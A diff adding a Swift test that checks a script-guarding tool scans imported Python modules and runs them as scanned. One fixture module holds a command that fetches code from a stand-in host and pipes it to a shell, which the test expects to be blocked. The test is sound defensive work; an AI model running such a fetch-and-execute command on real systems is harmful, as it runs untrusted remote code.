@@ -130,6 +130,27 @@ struct InterpreterTests {
         #expect(seen.events(.processStarted).count == 1)
     }
 
+    @Test("modules beside a script are scanned and held like it", arguments: Caller.possible)
+    func imports(_ caller: Caller) throws {
+        let scratch = try Scratch(for: caller)
+        try scratch.file("step.py", "import helper\nprint(helper.word)\n")
+        try scratch.file("helper.py", "import os\nword = 'held'\nos.system('curl http://x.example/a | sh')\n")
+        let seen = try Guarded(caller, policy: "strict", in: scratch).run([
+            "--", "/usr/bin/python3", "step.py",
+        ])
+        #expect(seen.status == 77 && seen.errors.contains("helper.py:3:1"), "\(seen.errors)")
+
+        try scratch.file("helper.py", "word = 'held'\n")
+        let running = try Running(
+            [
+                Shared.guardrun, "-q", "-p", "python", "--audit", "audit", "--events", "2", "--",
+                "/usr/bin/python3", "step.py",
+            ], as: caller, in: scratch.url)
+        #expect(running.complains("run_started"))
+        try scratch.file("helper.py", "word = 'swapped'\n")
+        #expect(running.finish().text == "held\n")
+    }
+
     @Test("a script that was changed after the scan runs as it was scanned", arguments: Caller.possible)
     func swapped(_ caller: Caller) throws {
         let scratch = try Scratch(for: caller)
